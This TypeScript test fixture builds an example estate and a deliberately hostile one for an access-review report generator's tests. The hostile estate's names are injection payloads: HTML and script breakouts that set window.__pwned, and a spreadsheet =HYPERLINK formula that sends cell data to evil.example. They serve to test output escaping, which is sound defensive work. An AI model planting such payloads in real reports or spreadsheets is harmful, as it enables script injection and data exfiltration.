/** The example estate and a hostile one as access reviews, for the report tests. */
import type { Estate } from "../../provider/model/estate";
import { buildPlan } from "../../provider/plan/build";
import { planContext } from "../../provider/plan/filter";
import { buildReview, reviewInputs, type Review } from "../../provider/report/rows";
import { exampleEstate, mustLoad } from "../support/estate";

export { exampleEstate };

/** The instant the example goldens are computed at. */
export const NOW = "2026-11-23T00:00:00Z";

/** A fixed first-commit date per policy file, so outputs do not depend on the checkout's history. */
export function fixedSince(estate: Estate): Map<string, string> {
  return new Map(estate.policies.map((p) => [p.file, "2026-03-01T10:00:00.000Z"]));
}

/** The review of `estate` (one owner's data sources, or all of them). */
export function reviewOf(estate: Estate, owner?: string, now = NOW): Review {
  const plan = buildPlan(estate, now);
  return buildReview({
    plan,
    ctx: planContext(estate),
    ...reviewInputs(estate),
    policySince: fixedSince(estate),
    ...(owner !== undefined ? { owner } : {}),
  });
}

/** Names built to break out of HTML, attributes, scripts and spreadsheets. */
export const HOSTILE = {
  user: `<img src=x onerror="window.__pwned=1">`,
  dataSource: `"><script>window.__pwned=2</script>`,
  identity: `=HYPERLINK("http://evil.example/?"&A1)`,
  owner: `o'wner</td><b>`,
  tag: `-2+3`,
};

/** An estate whose every name is hostile. */
export function hostileEstate(): Estate {
  const q = (s: string) => JSON.stringify(s);
  return mustLoad({
    policies: {
      "p.yaml": `name: hostile-read\naccess: read\nsubscribers: { anyone: true }\ndataSources: { names: [${q(HOSTILE.dataSource)}] }\n`,
    },
    inventory: {
      "inv.yaml": [
        "users:",
        `  - { id: ${q(HOSTILE.user)}, identities: { snowflake: ${q(HOSTILE.identity)} } }`,
        "  - { id: plain, identities: { snowflake: PLAIN } }",
        "dataSources:",
        `  - { id: ${q(HOSTILE.dataSource)}, platform: snowflake, objectType: BASE TABLE, location: { database: DB, schema: S, table: T }, tags: [${q(HOSTILE.tag)}], owners: [${q(HOSTILE.owner)}] }`,
        "",
      ].join("\n"),
    },
  });
}
